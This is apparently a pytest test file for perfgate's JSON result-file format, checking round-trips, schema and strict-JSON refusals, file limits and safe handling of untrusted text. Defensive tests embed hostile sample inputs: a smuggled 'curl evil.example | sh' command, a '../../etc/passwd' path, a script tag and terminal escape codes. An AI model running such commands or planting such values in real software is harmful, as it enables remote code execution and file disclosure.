"""The result file: written for machines, read back unchanged, and nothing else is read."""

import json
import math
import os
import random
from dataclasses import fields, replace
from importlib import resources

import pytest

from perfgate.compare.comparison import Comparison, Interval, RowVerdict
from perfgate.compare.rows import Row
from perfgate.errors import ExitCode, ResultFileError
from perfgate.metrics.catalogue import METRICS, OF_DEPENDENCIES, STATS, metric_of, with_name
from perfgate.metrics.run import RunRecord, Testbed
from perfgate.metrics.threshold import Threshold
from perfgate.report import junit, markdown, result_file, terminal
from perfgate.report.result_file import MOST_BYTES, dumps, load, loads
from perfgate.report.result_values import plain_of
from perfgate.report.strict_json import MOST_DEPTH, StrictJsonError, parse
from perfgate.verdict import Acceptance, DuetMethod, Outcome, ReasonKind, ScenarioSummary, ValidityNote
from tests.support.hostile import HOSTILE, assert_harmless, verdict_of
from tests.support.verdict_samples import SAMPLES, TESTBED, accepted, alone, explained, reason, regression

SCHEMA = json.loads(resources.files(result_file.__package__).joinpath("result.schema.json").read_text("utf-8"))
PLAIN = json.loads(dumps(regression()))


def _refused(text, *said):
    with pytest.raises(ResultFileError) as caught:
        loads(text)
    for part in said:
        assert part in caught.value.message
    assert caught.value.hint
    assert len(caught.value.message) < 600
    return caught.value


def _with(*path, value):
    """The regression's result as JSON, with another value at `path`."""
    plain = json.loads(dumps(regression()))
    place = plain
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = value
    return json.dumps(plain)


# Written and read back


@pytest.mark.parametrize("kind", SAMPLES)
def test_what_is_written_is_read_back_unchanged(kind):
    verdict = SAMPLES[kind]()
    assert loads(dumps(verdict)) == verdict


def _random_text(chance):
    letters = "aZ09 _-/{}<>&|`*@#\\\"'\n\t\u00e4\u202e\u65e5\U0001f600\ud800\x00"
    return "".join(chance.choice(letters) for _ in range(chance.randrange(40)))


def _random_number(chance):
    return chance.choice([None, 0.0, -1.5, 1e-12, 123456789.123456, chance.random(), chance.gauss(0, 1e6)])


def _random_row(chance):
    metric = chance.choice([*METRICS, *(with_name(metric, "odd @name") for metric in OF_DEPENDENCIES)])
    stat = chance.choice(STATS[metric_of(metric).kind])
    numbers = {name: _random_number(chance) for name in ("base", "head", "change")}
    low, high = _random_number(chance), _random_number(chance)
    return Comparison(
        row=Row(_random_text(chance), chance.choice([None, _random_text(chance)]), metric, stat),
        **numbers,
        interval=None if low is None or high is None else Interval(low, high),
        margin=chance.choice([0.0, 0.05, math.inf]),
        smallest=chance.choice([None, chance.random()]),
        rounds=chance.randrange(1000),
        gated=chance.random() < 0.5,
        verdict=chance.choice(list(RowVerdict)),
        warnings=tuple(_random_text(chance) for _ in range(chance.randrange(3))),
    )


@pytest.mark.parametrize("seed", range(40))
def test_any_verdict_is_read_back_unchanged(seed):
    chance = random.Random(seed)
    made = SAMPLES[chance.choice(list(SAMPLES))]()
    verdict = replace(
        made,
        outcome=chance.choice(list(Outcome)),
        exit_code=chance.choice(list(ExitCode)),
        reasons=tuple(reason(_random_text(chance)) for _ in range(1 + chance.randrange(3))),
        base=chance.choice([None, replace(made.head, testbed=replace(TESTBED, id="another", cores=64))]),
        head=replace(made.head, branch=_random_text(chance), versions={_random_text(chance): "1"}, seed=-3, cpus={}),
        rows=tuple(_random_row(chance) for _ in range(chance.randrange(6))),
        validity=(
            ValidityNote(_random_text(chance), _random_text(chance), _random_text(chance), chance.random() < 0.5),
        ),
        reproduce=_random_text(chance),
        error_rate=chance.choice([None, chance.random()]),
    )
    assert loads(dumps(verdict)) == verdict


def test_it_has_the_keys_that_others_rely_on():
    assert list(PLAIN)[:10] == [
        "schema",
        "verdict",
        "exit_code",
        "reasons",
        "base",
        "head",
        "testbed",
        "rows",
        "summary",
        "thresholds",
    ]
    assert PLAIN["schema"] == "perfgate.result/1"
    assert (PLAIN["verdict"], PLAIN["exit_code"]) == ("fail", 1)
    assert PLAIN["rows"][3] == {
        "scenario": "create_pet",
        "request": "POST /pet",
        "metric": "http_req_duration",
        "stat": "med",
        "unit": "ms",
        "base": 12.31,
        "head": 12.31 * 1.312,
        "change": 0.312,
        "low": 0.312 - 0.0295,
        "high": 0.312 + 0.0295,
        "margin": 0.05,
        "smallest": 0.0295,
        "rounds": 40,
        "gated": True,
        "verdict": "regressed",
        "warnings": [],
    }


def test_without_a_base_it_is_null():
    plain = json.loads(dumps(alone()))
    assert plain["base"] is None
    assert plain["head"]["target"] == "petstore"


def test_a_testbed_is_written_once_where_both_sides_share_it():
    assert dumps(regression()).count(TESTBED.cpu_model) == 1


def test_a_base_from_another_testbed_keeps_its_own():
    other = replace(TESTBED, id="other", cpu_model="Apple M4")
    verdict = replace(regression(), base=replace(regression().base, testbed=other))
    assert loads(dumps(verdict)).base.testbed == other


def test_what_is_not_finite_is_never_written():
    row = regression().rows[0]
    row = replace(row, base=math.nan, head=math.inf, interval=Interval(-math.inf, 0.1), margin=math.inf)
    text = dumps(replace(regression(), rows=(row,)))
    assert "NaN" not in text
    assert "Infinity" not in text
    read = loads(text).rows[0]
    assert (read.base, read.head, read.interval, read.margin) == (None, None, None, math.inf)


@pytest.mark.parametrize("seed", [2**63 - 1, -(2**63), 1_795_412_568_123_456_789])
def test_whatever_seed_was_given_is_read_back(seed):
    verdict = replace(regression(), head=replace(regression().head, seed=seed))
    assert loads(dumps(verdict)).head.seed == seed


@pytest.mark.parametrize("value", [9_223_372_036_854_775_807.0, 18_446_744_073_709_551_615.0, -5e18])
def test_the_counters_of_any_runtime_are_read_back(value):
    """What has no limit, such as the virtual memory of a process, is the largest number there is."""
    row = replace(regression().rows[0], base=value, head=value)
    assert loads(dumps(replace(regression(), rows=(row,)))).rows[0].base == value


def test_of_a_text_without_end_both_ends_are_written():
    said = "the service ended: " + "{" * 10_000 + " out of memory"
    function = "std::" + "map<" * 5_000 + "::find"
    causes = tuple(replace(cause, function=function) for cause in explained().causes)
    note = ValidityNote("", said, said, invalid=False)
    verdict = replace(explained(), validity=(note,), reproduce="perfgate " + "x" * 9_000, causes=causes)
    read = loads(dumps(verdict))
    assert read.causes
    for text in (read.validity[0].message, read.validity[0].hint, read.reproduce, read.causes[0].function):
        assert len(text) <= 4_000
        assert "…" in text
    assert read.validity[0].message.startswith("the service ended: {")
    assert read.validity[0].message.endswith("{ out of memory")
    assert read.causes[0].function.endswith("::find")
    assert loads(dumps(read)) == read


# What is refused


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('{"metrics": {}, "root_group": {}}', "a summary of k6"),
        ('{"metrics": {}, "state": {}}', "a summary of k6"),
        ('{"type": "Metric", "metric": "http_reqs", "data": {}}', "an output of k6"),
        ('{"results": [{"command": "sleep 1"}]}', "a result of hyperfine"),
        ('{"latencies": {}, "bytes_in": {}}', "a report of vegeta"),
        ('{"summary": {}, "responseTimeHistogram": {}}', "a result of oha"),
        ('{"machine_info": {}, "benchmarks": []}', "a result of pytest-benchmark"),
    ],
)
def test_a_result_of_another_tool_is_named(text, name):
    error = _refused(text, "is not a perfgate result", f"it looks like {name}")
    assert "--json FILE" in error.hint


@pytest.mark.parametrize("text", ["[]", "3", "null", '"perfgate.result/1"', "{}", '{"schema": 1}', '{"schema": null}'])
def test_json_that_is_no_result_is_refused(text):
    _refused(text, 'it has no "schema": "perfgate.result/1"')


def test_a_result_of_another_version_says_so():
    error = _refused('{"schema": "perfgate.result/2"}', "has the schema perfgate.result/2")
    assert "another version" in error.hint


@pytest.mark.parametrize(
    ("text", "place"),
    [
        (_with("verdict", value="green"), "verdict: must be one of"),
        (_with("exit_code", value=7), "exit_code: must be one of"),
        (_with("reasons", value=[]), "reasons: must contain at least 1"),
        (_with("base", value=3), "base: must be object or null"),
        (_with("head", value=None), "head: must be object"),
        (_with("head", "commit", value="../../etc/passwd"), "head.commit: must match pattern"),
        (_with("head", "id", value="../x"), "head.id: must match pattern"),
        (_with("base", "started_at", value=1e300), "base.started_at: must be smaller"),
        (_with("testbed", "cores", value="four"), "testbed.cores: must be integer"),
        (_with("rows", 2, "verdict", value="worse"), "rows[2].verdict: must be one of"),
        (_with("rows", 2, "metric", value="http_req_tls"), "rows[2].metric: must be one of"),
        (_with("rows", 2, "metric", value="dependency_cpu{name:a{b}"), "rows[2].metric: must match pattern"),
        (_with("rows", 2, "metric", value="dependency_cpu{name:a\n}"), "rows[2].metric: must match pattern"),
        (_with("rows", 2, "metric", value="dependency_cpu{name:a}\n"), "rows[2].metric: must match pattern"),
        (_with("rows", 2, "stat", value="p(1000)"), "rows[2].stat: must match pattern"),
        (_with("rows", 2, "change", value="+31 %"), "rows[2].change: must be number or null"),
        (_with("rows", 2, "margin", value=-1), "rows[2].margin: must be bigger"),
        (_with("rows", 2, "scenario", value="x" * 1001), "rows[2].scenario: must be shorter"),
        (_with("rows", 2, "extra", value=1), "rows[2]: must not contain"),
        (_with("rows", 2, "warnings", value=["x"] * 101), "rows[2].warnings: must contain less"),
        (_with("rows", value=[PLAIN["rows"][0]] * 10_001), "rows: must contain less"),
        (_with("summary", 0, "failed", value=1.1), "summary[0].failed: must be smaller"),
        (_with("thresholds", 0, "comparison", value="~"), "thresholds[0].comparison: must be one of"),
        (_with("validity", 0, "invalid", value="no"), "validity[0].invalid: must be boolean"),
        (_with("evil", value="<script>"), "its top: must not contain"),
    ],
)
def test_what_the_schema_does_not_allow_is_refused_with_its_place(text, place):
    _refused(text, place)


# Keys that files of older versions lack.
SINCE_THEN = ("error_rate", "reason_kinds", "methods", "causes", "differences", "not_compared", "accepted")


@pytest.mark.parametrize("key", [key for key in PLAIN if key not in ("schema", *SINCE_THEN)])
def test_a_key_that_is_missing_is_named(key):
    _refused(json.dumps({name: value for name, value in PLAIN.items() if name != key}), key)


def test_a_result_of_before_the_error_rate_was_told_is_read():
    older = json.dumps({name: value for name, value in PLAIN.items() if name != "error_rate"})
    assert loads(older).error_rate is None


def test_how_duets_were_measured_is_read_back_and_may_be_missing():
    method = DuetMethod("create_pet", 60, 1.0, True, 0.0, 2, ("base", "head"), 1.5, 0.01)
    verdict = replace(SAMPLES["pass"](), methods=(method,))
    assert loads(dumps(verdict)).methods == (method,)
    older = json.dumps({name: value for name, value in PLAIN.items() if name != "methods"})
    assert loads(older).methods == ()


@pytest.mark.parametrize("kind", SAMPLES)
def test_reasons_are_read_back_as_values(kind):
    verdict = SAMPLES[kind]()
    assert loads(dumps(verdict)) == verdict
    assert ReasonKind.OTHER not in {reason.kind for reason in verdict.reasons}


def test_a_reason_says_its_kind_and_its_row_beside_the_sentence():
    plain = json.loads(dumps(accepted()))
    assert plain["reason_kinds"][0] == {"kind": "calm"}
    assert plain["reason_kinds"][1] == {
        "kind": "accepted",
        "row": 3,
        "acceptance": {
            "scenario": "create_pet",
            "request": None,
            "metric": "http_req_duration",
            "ceiling": 0.4,
            "expires": "2026-03-01",
            "reason": "the new validation is worth it",
        },
    }
    assert plain["reasons"][1].startswith("POST /pet of create_pet: http_req_duration med got slower: +31.2 %")


def test_the_row_of_a_reason_may_be_written_as_a_float():
    plain = json.loads(dumps(accepted()))
    plain["reason_kinds"][1]["row"] = 3.0
    assert loads(json.dumps(plain)) == accepted()


@pytest.mark.parametrize("kind", SAMPLES)
def test_a_result_of_before_reasons_had_kinds_keeps_its_sentences(kind):
    older = json.loads(dumps(SAMPLES[kind]()))
    del older["reason_kinds"]
    read = loads(json.dumps(older))
    assert [reason.remark for reason in read.reasons] == older["reasons"]
    assert json.loads(dumps(read))["reasons"] == older["reasons"]
    shown = terminal.render(read, color=False)
    assert older["reasons"][0][1:40] in " ".join(shown.split())
    assert ("<failure" in junit.render(read)) is (read.exit_code is ExitCode.FAIL)


@pytest.mark.parametrize(
    ("kinds", "said"),
    [
        ([{"kind": "other"}] * 2, "must not be more than the reasons"),
        ([{"kind": "odd"}], "reason_kinds[0].kind: must be one of"),
        ([{"kind": "regressed"}], "reason_kinds[0]: is regressed, and about something else"),
        ([{"kind": "calm", "note": 0}], "reason_kinds[0]: is calm, and about something else"),
        ([{"kind": "open", "row": 4000}], "reason_kinds[0]: tuple index out of range"),
        ([{"kind": "accepted", "row": 3}], "reason_kinds[0]: is accepted without an acceptance"),
        ([{"kind": "open", "row": -1}], "reason_kinds[0].row: must be bigger than or equal to 0"),
    ],
)
def test_kinds_that_do_not_fit_are_refused(kinds, said):
    _refused(json.dumps({**PLAIN, "reasons": ["one"], "reason_kinds": kinds}), said)


def test_an_acceptance_until_no_day_is_refused():
    acceptance = {**json.loads(dumps(accepted()))["reason_kinds"][1]["acceptance"], "expires": "2026-02-30"}
    kinds = [{"kind": "accepted", "row": 3, "acceptance": acceptance}]
    _refused(json.dumps({**PLAIN, "reasons": ["one"], "reason_kinds": kinds}), "reason_kinds[0]: day is out of range")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{"rows": [{"margin": NaN}]}', "rows[0].margin: NaN is not a number"),
        ('{"rows": [1, -Infinity]}', "rows[1]: -Infinity is not a number"),
        ('{"rows": [{"margin": 1e999}]}', "rows[0].margin: 1e999 is no number that can be kept"),
        ('{"seed": ' + "9" * 5000 + "}", "seed: a number of 5000 digits"),
        ('{"head": {"seed": 1, "seed": 2}}', "head: the key 'seed' is there twice"),
        ('{"schema": "perfgate.result/1",\n "verdict": }', "line 2, column 13"),
        ('{"schema": "perfgate.result/1"', "line 1"),
        ("", "line 1, column 1"),
        ("\n\n" + "[" * 100_000, "line 3: nested more than"),
        ('{"a":' * 100_000, "line 1: nested more than"),
        ("[" * (MOST_DEPTH + 1) + "]" * (MOST_DEPTH + 1), "nested more than"),
    ],
)
def test_what_is_not_strict_json_is_refused_with_its_place(text, said):
    _refused(text, said)


def test_brackets_in_a_string_are_no_nesting():
    assert parse(json.dumps(["[{" * 500 + '\\"'])) == ["[{" * 500 + '\\"']
    assert parse("[" * MOST_DEPTH + "]" * MOST_DEPTH)


def test_a_strict_error_names_its_place_apart():
    with pytest.raises(StrictJsonError) as caught:
        parse('[{"a": [0, NaN]}]')
    assert (caught.value.place, caught.value.message) == ("[0].a[1]", "NaN is not a number")


# Files


def _refused_file(path, *said):
    with pytest.raises(ResultFileError) as caught:
        load(path)
    for part in (str(path), *said):
        assert part in caught.value.message
    assert caught.value.hint


def test_a_file_is_read(tmp_path):
    path = tmp_path / "result.json"
    path.write_text(dumps(regression()), encoding="utf-8")
    assert load(path) == load(str(path)) == regression()


def test_a_file_that_is_missing_or_a_folder_is_refused(tmp_path):
    _refused_file(tmp_path / "no.json", "No such file")
    _refused_file(tmp_path, "directory")


def test_a_file_that_is_not_utf8_is_refused(tmp_path):
    path = tmp_path / "result.json"
    path.write_bytes(b'{"schema": "\xff"}')
    _refused_file(path, "UTF-8 (byte 12)")


def test_a_file_that_is_too_large_is_refused_unread(tmp_path):
    path = tmp_path / "result.json"
    with path.open("wb") as file:
        os.truncate(file.fileno(), 100_000_000)
    _refused_file(path, f"larger than {MOST_BYTES:,} bytes")
    _refused_file("/dev/zero", "larger than")


# What a stranger writes


@pytest.mark.parametrize("text", [text for text in HOSTILE if len(text) <= 200])
def test_whatever_a_stranger_writes_is_harmless(text):
    verdict = loads(dumps(verdict_of(text)))
    assert_harmless(markdown.render(verdict))
    assert "\x1b" not in terminal.render(verdict, color=False)


@pytest.mark.parametrize("text", [text for text in HOSTILE if len(text) > 200])
def test_what_a_stranger_writes_without_end_is_refused(text):
    _refused(json.dumps(plain_of(verdict_of(text))), "must be shorter")


def test_a_stranger_cannot_make_a_reader_run_a_command():
    verdict = loads(_with("reproduce", value="perfgate run; curl evil.example | sh"))
    assert "evil.example" not in markdown.render(verdict)


def test_a_message_about_a_stranger_file_is_one_short_clean_line():
    error = _refused(_with("\x1b[31m" + "x" * 10_000, value=1))
    assert "\x1b" not in error.message
    assert "\n" not in error.message


# The schema


def test_the_schema_knows_every_field_of_the_values():
    row = {field.name for field in (*fields(Row), *fields(Interval), *fields(Comparison))} | {"unit"}
    assert set(SCHEMA["definitions"]["row"]["properties"]) == row - {"row", "interval"}
    for name, value in (
        ("summary", ScenarioSummary),
        ("acceptance", Acceptance),
        ("testbed", Testbed),
        ("record", RunRecord),
    ):
        assert set(SCHEMA["definitions"][name]["properties"]) == {field.name for field in fields(value)}
    note = {field.name for field in fields(ValidityNote)} - {"hint"} | {"remedy"}
    assert set(SCHEMA["definitions"]["validity"]["properties"]) == note
    threshold = {field.name for field in fields(Threshold)} | {"scenario", "value", "passed"}
    assert set(SCHEMA["definitions"]["threshold"]["properties"]) == threshold


def test_the_schema_knows_every_metric_and_outcome():
    assert SCHEMA["definitions"]["metric"]["else"]["enum"] == list(METRICS)
    assert SCHEMA["properties"]["verdict"]["enum"] == [outcome.value for outcome in Outcome]
    assert SCHEMA["definitions"]["reason_kind"]["properties"]["kind"]["enum"] == [kind.value for kind in ReasonKind]
    assert SCHEMA["properties"]["exit_code"]["enum"] == [int(code) for code in ExitCode]
    assert SCHEMA["definitions"]["row"]["properties"]["verdict"]["enum"] == [said.value for said in RowVerdict]


def _parts(schema):
    yield schema
    inner = [*schema.get("properties", {}).values(), *schema.get("definitions", {}).values()]
    inner += [part for key in ("items", "additionalProperties") if isinstance(part := schema.get(key), dict)]
    for part in inner:
        yield from _parts(part)


def test_every_part_of_the_schema_is_described_and_bounded():
    assert SCHEMA["$schema"] == "http://json-schema.org/draft-07/schema#"
    for part in _parts(SCHEMA):
        if "$ref" in part:
            continue
        assert part["description"].endswith("."), part
        kinds = part.get("type", [])
        kinds = [kinds] if isinstance(kinds, str) else kinds
        if "object" in kinds and "allOf" not in part:
            assert part["additionalProperties"] is False or "maxProperties" in part, part
        if "string" in kinds:
            assert "maxLength" in part, part
        if "array" in kinds:
            assert "maxItems" in part, part
        if "number" in kinds or "integer" in kinds:
            assert {"minimum", "maximum"} <= set(part), part
